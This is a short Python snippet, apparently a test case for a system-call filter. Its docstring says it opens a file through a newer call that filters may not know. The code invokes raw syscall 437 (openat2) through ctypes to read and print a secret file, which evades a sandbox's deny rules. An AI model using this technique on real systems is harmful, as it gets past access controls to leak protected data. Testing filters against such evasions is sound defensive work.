"""
goal: open a file by a newer call, which filters may not know
effect: leak
"""

import ctypes
import os
import struct

how = struct.pack("3Q", 0, 0, 0)
print(os.read(ctypes.CDLL(None).syscall(437, -100, SECRET_FILE.encode(), how, 24), 100))
